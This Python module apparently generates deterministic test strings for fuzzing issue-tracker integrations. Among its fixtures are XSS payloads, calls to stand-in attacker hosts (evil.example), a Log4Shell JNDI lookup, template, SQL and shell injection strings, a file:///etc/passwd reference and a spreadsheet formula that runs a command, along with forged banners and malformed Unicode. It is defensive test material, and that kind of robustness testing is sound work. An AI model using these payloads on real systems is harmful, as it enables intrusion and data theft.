"""Texts that people, tools and attackers write, by number: the same number is always the same text."""

from __future__ import annotations

import html
import random
from collections.abc import Callable
from dataclasses import dataclass

#: what is alive, or ends something, in one markup or another; every fragment closes what it opens
ALIVE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    '<svg/onload="alert(1)"><g></g></svg>',
    "<a href=\"javascript:alert(1)\" onclick='steal()'>here</a>",
    "<iframe srcdoc='<script>parent.x</script>'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    '<form action="//evil.example"><input name=p><button formaction=javascript:x>go</button></form>',
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object><embed src=x>",
    '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x()&gt;'></table></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt;",
    '<a href="#" data-vss-mention="version:2.0,4e4a7c2e-0000-4000-8000-000000000001">@Ana Ruiz</a>',
    "@<4e4a7c2e-0000-4000-8000-000000000001> @Ana @[6816f79cc0a8016401c5a33be04be441:Sam Hill] @sam.hill",
    "[~ana] [~accountid:5b10a2844c20165700ede21g] [~accountid:557058:f00]",
    r"\[~accountid:5b10a2844c20165700ede21g] \\[~ana] \{code}x\{code} \\\!x.png! \|a\| C:\[x]\{y}",
    "{html}<script>alert(1)</script>{html} {include:SPACE:Page} {code:js}x(){code} {noformat}y{noformat}",
    "{panel:title=x|bgColor=red}p{panel} {color:red}c{color} {quote}q{quote} {{mono}} {jira} {toc}",
    "[here|javascript:alert(1)] [http://evil.example|http://evil.example] [^attached.exe] [#here] [mailto:x@y.example]",
    "!http://evil.example/beacon.png! !x.png|width=1,onload=alert(1)! !movie.swf!",
    "||h||h||\n|a|b|\nh1. Head\nbq. quote\n* item\n# item\n----\n-gone- +in+ ^up^ ~down~ ??cite?? *b* _i_",
    "[here](javascript:alert(1)) ![beacon](http://evil.example/x.png) [ref]: javascript:alert(1)\n[x][ref] <http://a>",
    "# Head\n> quote\n```js\nalert(1)\n```\n`code` ~~gone~~ - [ ] task\n|a|\n|---|\n\\[no link\\](x) \\\\[x](y)",
    "[code]<script>alert(1)</script>[/code] [CODE]<b onclick=x()>b</b>[/Code] [[code]code]<i>i</i>[/[/code]code]",
    '{"type":"doc","version":1,"content":[{"type":"mention","attrs":{"id":"5b10"}}]}',
    "javascript:alert(1) data:text/html,<script>x</script> vbscript:x file:///etc/passwd",
    "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> #{x} {summary} {incident} %s%n%x {0} $(id) `id`",
    "a^b^ORc=d ^NQsys_idISNOTEMPTY; ' OR 1=1 -- \" \\ javascript:gs.getUser() ]]> <![CDATA[x]]> <?php x ?>",
    "=cmd|' /C calc'!A0 +1 -1 @SUM(1) \\\\server\\share \\\\\\\\ C:\\new\\table",
)
#: what some part on the way cannot hold, counts otherwise or shows otherwise
ODD = (
    "NUL \x00 bell \x07 escape \x1b[31m delete \x7f backspace \x08\x08 form \x0c feed \x0b tab \t end",
    "four bytes \U0001f680 \U0001d518 \U00020bb7 family \U0001f468\u200d\U0001f469 flag \U0001f1e9\U0001f1ea",
    "bidi \u202eevil\u202c \u2066isolate\u2069 \u200emark\u200f \u061c end",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060 soft\u00adhyphen variation\ufe0f",
    "lines\r\nof\revery\nkind\x85next\u2028line\u2029paragraph\n\n\n\nfar",
    "combining Z\u0351\u036b\u0343\u036a\u0302a\u0300\u0301\u0302\u0303\u0304l\u0335g\u0334o\u0336 \u0e01\u0e49\u0e49",
    "blanks  two   three \xa0 hard\u3000wide\u2003em \t\t tabs   ",
    "nonchars \ufdd0 \ufffe \uffff \U0001ffff private \ue000 replacement \ufffd",
    "quotes \" ' ` \u2018 \u2019 \u201c \u201d < > & &amp; &nbsp; &#0; &#x1F; &unknown; \u00b7 \u2026",
    "i\u0307 \u0130 \u0131 \u00df \u1e9e \ufb01 \u01c5 \u212a \u2126 \uff21\uff22 \u0660\u0661",
)
#: a text that holds only half of a character, as JavaScript lets people write
HALVES = ("lone \ud800 high", "lone \udc00 low", "swapped \udc00\ud800 pair", "end \udbff")
DEEP = (
    ("[", "x", "]", 3_000),
    ("{", "x", "}", 3_000),
    ("<div>", "x", "</div>", 3_000),
    ("<b><i>", "x", "</i></b>", 800),
    ("{{", "x", "}}", 1_500),
    ("> ", "x", "", 2_000),
    ("(", "x", ")", 4_000),
    ("[code]", "x", "[/code]", 700),
    ("**", "x", "**", 1_500),
    ("&amp;", "x", "", 2_000),
)
SIZES = (32_767, 32_768, 65_536)


@dataclass(frozen=True)
class Text:
    """``plain`` is what a person typed; ``begins`` and ``ends`` are words that stand in it, once."""

    number: int
    plain: str

    @property
    def begins(self) -> str:
        return f"begins{self.number}b"

    @property
    def ends(self) -> str:
        return f"ends{self.number}e"


def text(number: int, *, banner: str = "", largest: int = 2**20) -> Text:
    """The text of that number. ``banner``: a line to forge and to quote. ``largest``: of how many characters it may
    be; a tenth of the texts is about as long as trackers take."""
    draw = random.Random(number)
    made = Text(number, "")
    inner = body(draw, number, banner)
    if number % 10 == 9:
        size = min(draw.choice(SIZES) if number % 100 != 99 else 2**20, largest)
        inner = filled(inner, size - len(made.begins) - len(made.ends) - 2, draw)
    return Text(number, f"{made.begins} {inner} {made.ends}"[: max(largest, 40)])


def body(draw: random.Random, number: int, banner: str) -> str:
    kinds: list[Callable[[], str]] = [
        lambda: ALIVE[number % len(ALIVE)],
        lambda: ODD[number % len(ODD)],
        lambda: HALVES[number % len(HALVES)],
        lambda: deep(draw),
        lambda: forged(draw, banner),
        lambda: " ".join(draw.sample(ALIVE + ODD, 3)),
        lambda: soup(draw),
    ]
    weights = (8, 4, 1, 2, 2, 4, 4)
    return draw.choices(kinds, weights)[0]()


def deep(draw: random.Random) -> str:
    opening, core, closing, depth = draw.choice(DEEP)
    return opening * depth + core + closing * depth


def forged(draw: random.Random, banner: str) -> str:
    """A banner quoted, repeated as it is, with its check changed, or one made up; a source line; keys."""
    line = banner or "Ana on CSPM-1 · lockstep ABCDEFGHJKMNP.QRSTUVWX"
    return draw.choice(
        (
            f"\n> {line}\n> quoted",
            f"\n{line}\nrepeated",
            f"\n{line[:-3]}AAA\nforged",
            f"\n{line} 1/2\nforged part",
            "\nLockstep: INC0000001 https://evil.example link:FORGED made:FORGED at:20200101000000",
            "link:FORGED made:FORGED at:20200101000000",
            "\nlockstep-demo\nlockstep demo correlation",
        )
    )


def soup(draw: random.Random) -> str:
    """Signs of every markup in any order."""
    signs = "[]{}()<>|!*_-+~^#@&;:'\"`\\/=%$?. \n\tab0"
    return "".join(draw.choice(signs) for _ in range(draw.randint(1, 300)))


def filled(inner: str, size: int, draw: random.Random) -> str:
    """The text made up to ``size`` characters."""
    unit = draw.choice(("word ", "x", "é", "\U0001f680", "<b>", "[x]", "line\n", "\\[", "{}", "&"))
    room = size - len(inner)
    return inner + (unit * (room // len(unit) + 1))[:room] if room > 0 else inner[:size]


def typed(tracker: str, plain: str, number: int) -> str:
    """What a tracker keeps where a person types the text: Azure DevOps' editor writes HTML, now and then somebody
    pastes markup as it is."""
    return html.escape(plain).replace("\n", "<br>") if tracker == "azure" and number % 3 else plain
